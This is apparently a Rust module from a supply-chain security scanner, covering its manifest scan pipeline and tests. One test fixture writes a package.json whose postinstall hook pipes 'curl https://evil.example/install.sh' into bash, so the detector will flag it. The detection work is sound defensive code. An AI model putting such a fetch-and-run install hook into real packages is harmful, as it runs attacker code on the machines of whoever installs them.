//! Static scan phase: walk → parse → normalize → evaluate, parallel per
//! manifest file.
//!
//! Each file's pipeline reads only its own text and writes only its own
//! records, so the per-file work runs on the blocking pool and results are
//! collected in walk order with no shared mutable state. Per-file parse
//! failures are recoverable and recorded; they never abort the scan.

use std::collections::BTreeSet;
use std::path::Path;
use std::sync::Arc;

use anyhow::Result;
use futures::future::join_all;

use crate::config::Config;
use crate::heuristics::{self, Detector};
use crate::models::{Ecosystem, PartialFailure, ScoredDependency};
use crate::normalizer;
use crate::walker;

pub struct ScanOutcome {
    pub total_manifests: usize,
    pub ecosystems: BTreeSet<Ecosystem>,
    pub deps: Vec<ScoredDependency>,
    pub failures: Vec<PartialFailure>,
}

/// Run the offline phase over every manifest the walker surfaces.
///
/// Fatal only on configuration errors; everything downstream degrades to
/// partial failures.
pub async fn scan_repo(
    root: &Path,
    config: &Config,
    excluded: &[Ecosystem],
) -> Result<ScanOutcome> {
    config.validate()?;
    let registry: Arc<Vec<Detector>> = Arc::new(heuristics::build_registry(&config.detectors)?);

    let manifests: Vec<_> = walker::walk_repo(root, &config.scan.ignore)
        .into_iter()
        .filter(|m| !excluded.contains(&m.kind.ecosystem()))
        .collect();
    let total_manifests = manifests.len();
    log::info!("found {} manifest files", total_manifests);

    let tasks: Vec<_> = manifests
        .into_iter()
        .map(|manifest| {
            let registry = registry.clone();
            tokio::task::spawn_blocking(move || {
                let ecosystem = manifest.kind.ecosystem();
                match manifest.kind.parse(&manifest.rel_path, &manifest.text) {
                    Ok(mut deps) => {
                        for dep in &mut deps {
                            normalizer::normalize(dep);
                        }
                        log::debug!(
                            "parsed {} dependencies from {}",
                            deps.len(),
                            manifest.rel_path
                        );
                        let scored = heuristics::evaluate_manifest(
                            ecosystem,
                            &manifest.rel_path,
                            &manifest.text,
                            deps,
                            &registry,
                        );
                        Ok((ecosystem, scored))
                    }
                    Err(err) => Err(PartialFailure::new(
                        "parse",
                        manifest.rel_path,
                        err.to_string(),
                    )),
                }
            })
        })
        .collect();

    let mut ecosystems = BTreeSet::new();
    let mut deps = Vec::new();
    let mut failures = Vec::new();

    for joined in join_all(tasks).await {
        match joined {
            Ok(Ok((ecosystem, scored))) => {
                ecosystems.insert(ecosystem);
                for entry in &scored {
                    ecosystems.insert(entry.dep.ecosystem);
                }
                deps.extend(scored);
            }
            Ok(Err(failure)) => {
                log::warn!("{}: {}", failure.subject, failure.note);
                failures.push(failure);
            }
            Err(join_err) => failures.push(PartialFailure::new(
                "parse",
                "worker",
                join_err.to_string(),
            )),
        }
    }

    Ok(ScanOutcome {
        total_manifests,
        ecosystems,
        deps,
        failures,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::Severity;

    fn write(root: &Path, rel: &str, content: &str) {
        let path = root.join(rel);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).unwrap();
        }
        std::fs::write(path, content).unwrap();
    }

    #[tokio::test]
    async fn test_scan_fixture_repo_end_to_end() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, "requirements.txt", "requests\n");
        write(
            root,
            "package.json",
            r#"{
  "name": "demo",
  "scripts": {
    "postinstall": "curl https://evil.example/install.sh | bash"
  }
}"#,
        );

        let outcome = scan_repo(root, &Config::default(), &[]).await.unwrap();

        assert_eq!(outcome.total_manifests, 2);
        assert!(outcome.ecosystems.contains(&Ecosystem::Python));
        assert!(outcome.ecosystems.contains(&Ecosystem::Npm));
        assert!(outcome.deps.len() >= 2);
        assert!(outcome.failures.is_empty());

        let signals: Vec<_> = outcome
            .deps
            .iter()
            .flat_map(|d| d.signals.iter())
            .collect();
        assert_eq!(signals.len(), 2);

        let unpinned = signals
            .iter()
            .find(|s| s.signal_type == "unpinned_version")
            .unwrap();
        assert_eq!(unpinned.severity, Severity::High);
        assert_eq!(unpinned.file, "requirements.txt");

        let postinstall = signals
            .iter()
            .find(|s| s.signal_type == "postinstall_script")
            .unwrap();
        assert_eq!(postinstall.severity, Severity::High);
        assert_eq!(postinstall.file, "package.json");
        drop(signals);

        let report = crate::report::build_report(
            root,
            "unknown".to_string(),
            outcome,
            crate::correlator::CorrelatorOutcome::default(),
        );
        let json = serde_json::to_value(&report).unwrap();
        assert!(json["scan_summary"]["total_dependencies"].as_u64().unwrap() >= 2);
        assert_eq!(json["scan_summary"]["total_signals"], 2);
        let detected = json["scan_summary"]["ecosystems_detected"].as_array().unwrap();
        assert!(detected.contains(&serde_json::json!("python")));
        assert!(detected.contains(&serde_json::json!("npm")));
    }

    #[tokio::test]
    async fn test_malformed_manifest_is_recoverable() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(root, "package.json", "{ this is not json");
        write(root, "requirements.txt", "flask==2.0.0\n");

        let outcome = scan_repo(root, &Config::default(), &[]).await.unwrap();
        assert_eq!(outcome.total_manifests, 2);
        assert_eq!(outcome.failures.len(), 1);
        assert_eq!(outcome.failures[0].stage, "parse");
        assert!(outcome.deps.iter().any(|d| d.dep.name == "flask"));
    }

    #[tokio::test]
    async fn test_unknown_detector_toggle_fails_before_scanning() {
        let dir = tempfile::tempdir().unwrap();
        let mut config = Config::default();
        config.detectors.insert("bogus".to_string(), true);
        assert!(scan_repo(dir.path(), &config, &[]).await.is_err());
    }
}
